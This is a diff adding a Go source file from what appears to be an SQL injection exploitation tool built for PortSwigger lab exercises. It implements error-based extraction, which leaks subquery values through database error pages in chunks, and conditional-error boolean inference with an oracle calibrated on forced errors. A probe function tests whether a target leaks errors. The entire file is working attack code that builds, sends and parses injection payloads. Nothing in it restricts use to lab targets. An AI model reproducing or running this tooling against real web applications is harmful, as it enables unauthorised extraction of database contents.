@@ -0,0 +1,178 @@
+package sqli
+
+import (
+	"fmt"
+	"html"
+	"io"
+	"regexp"
+	"strings"
+	"unicode/utf8"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// errorTestValue is leaked on purpose to confirm that error messages are visible.
+const errorTestValue = "qzxerrtest"
+
+// ErrorExtractor retrieves data by forcing the database to raise an error
+// that contains the value of a subquery, then parsing it out of the error page.
+type ErrorExtractor struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	db       constant.Database
+	pattern  *regexp.Regexp
+}
+
+// NewErrorExtractor returns an extractor using the error payload and regex of the given database.
+func NewErrorExtractor(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database) (*ErrorExtractor, error) {
+	if err := db.Require(constant.CAPABILITY_ERROR_LEAK); err != nil {
+		return nil, err
+	}
+
+	pattern, err := regexp.Compile(db.ErrorRegex)
+	if err != nil {
+		return nil, fmt.Errorf("invalid error regex for %s: %w", db.Name, err)
+	}
+
+	return &ErrorExtractor{
+		client:   client,
+		point:    point,
+		boundary: boundary,
+		db:       db,
+		pattern:  pattern,
+	}, nil
+}
+
+func (e *ErrorExtractor) Name() string {
+	return TECHNIQUE_ERROR
+}
+
+// ExtractString leaks the value of the SQL expression through error messages.
+// Databases that truncate error messages are read in chunks.
+func (e *ErrorExtractor) ExtractString(expression string) (string, error) {
+	if e.db.ErrorChunkSize == 0 {
+		return e.leak(expression)
+	}
+
+	var value strings.Builder
+	for position := 1; position <= constant.MAX_BLIND_LENGTH; position += e.db.ErrorChunkSize {
+		chunk, err := e.leak(fmt.Sprintf("%s((%s),%d,%d)", e.db.SubstringFunction, expression, position, e.db.ErrorChunkSize))
+		if err != nil {
+			return value.String(), err
+		}
+		value.WriteString(chunk)
+		if utf8.RuneCountInString(chunk) < e.db.ErrorChunkSize {
+			return value.String(), nil
+		}
+	}
+	return value.String(), fmt.Errorf("value is longer than the maximum length (%d)", constant.MAX_BLIND_LENGTH)
+}
+
+// payload wraps the error payload that leaks the expression.
+func (e *ErrorExtractor) payload(expression string) string {
+	return e.boundary.Wrap(" AND " + fmt.Sprintf(e.db.ErrorPayload, expression))
+}
+
+// leak injects a single error payload and returns the value captured from the error page.
+func (e *ErrorExtractor) leak(expression string) (string, error) {
+	response, err := sendPayload(e.client, e.point, e.payload(expression))
+	if err != nil {
+		return "", err
+	}
+	defer utility.SafeClose(response.Body)
+
+	bodyBytes, err := io.ReadAll(response.Body)
+	if err != nil {
+		return "", fmt.Errorf("failed to read response body: %w", err)
+	}
+
+	// Error pages usually escape quotes, unescape them before matching
+	match := e.pattern.FindStringSubmatch(html.UnescapeString(string(bodyBytes)))
+	if match == nil {
+		return "", fmt.Errorf("no leaked value found in the response (status %d)", response.StatusCode)
+	}
+	logger.Debugf("Leaked value: %s", match[1])
+	return match[1], nil
+}
+
+// DoesErrorBasedVulnerabilityExist checks whether a known value can be leaked
+// through the error messages of the given database.
+func DoesErrorBasedVulnerabilityExist(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database) (bool, error) {
+	extractor, err := NewErrorExtractor(client, point, boundary, db)
+	if err != nil {
+		return false, err
+	}
+
+	value, err := extractor.leak("'" + errorTestValue + "'")
+	if err != nil {
+		logger.Debugf("Error-based test failed for %s: %s", db.Name, err.Error())
+		return false, nil
+	}
+	return value == errorTestValue, nil
+}
+
+// ConditionalErrorQuestioner answers questions through a condition that raises a DBMS
+// error only when it is true. It serves pages that look the same whatever the query
+// returns, as long as a failing query changes the response.
+type ConditionalErrorQuestioner struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	oracle   Oracle
+	db       constant.Database
+}
+
+// NewConditionalErrorQuestioner calibrates the oracle with the response to a condition
+// that raises an error and one that does not.
+func NewConditionalErrorQuestioner(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle, db constant.Database) (*ConditionalErrorQuestioner, error) {
+	if err := db.Require(constant.CAPABILITY_CONDITIONAL_ERROR); err != nil {
+		return nil, err
+	}
+
+	questioner := &ConditionalErrorQuestioner{
+		client:   client,
+		point:    point,
+		boundary: boundary,
+		oracle:   oracle,
+		db:       db,
+	}
+
+	errorResponse, err := questioner.fetch("1=1")
+	if err != nil {
+		return nil, fmt.Errorf("failed to record error baseline: %w", err)
+	}
+	cleanResponse, err := questioner.fetch("1=2")
+	if err != nil {
+		return nil, fmt.Errorf("failed to record clean baseline: %w", err)
+	}
+
+	if err := oracle.Calibrate(errorResponse, cleanResponse); err != nil {
+		return nil, fmt.Errorf("conditional errors do not change the response: %w", err)
+	}
+	return questioner, nil
+}
+
+func (q *ConditionalErrorQuestioner) Name() string {
+	return TECHNIQUE_CONDITIONAL_ERROR
+}
+
+// Ask reports whether the condition raised the error, which means it is true.
+func (q *ConditionalErrorQuestioner) Ask(condition string) (bool, error) {
+	response, err := q.fetch(condition)
+	if err != nil {
+		return false, err
+	}
+	return q.oracle.Evaluate(response), nil
+}
+
+func (q *ConditionalErrorQuestioner) fetch(condition string) (*Response, error) {
+	return fetchResponse(q.client, q.point, q.payload(condition))
+}
+
+// payload joins a condition that raises an error when the given one holds.
+func (q *ConditionalErrorQuestioner) payload(condition string) string {
+	return q.boundary.Condition(fmt.Sprintf(q.db.ConditionalError, condition))
+}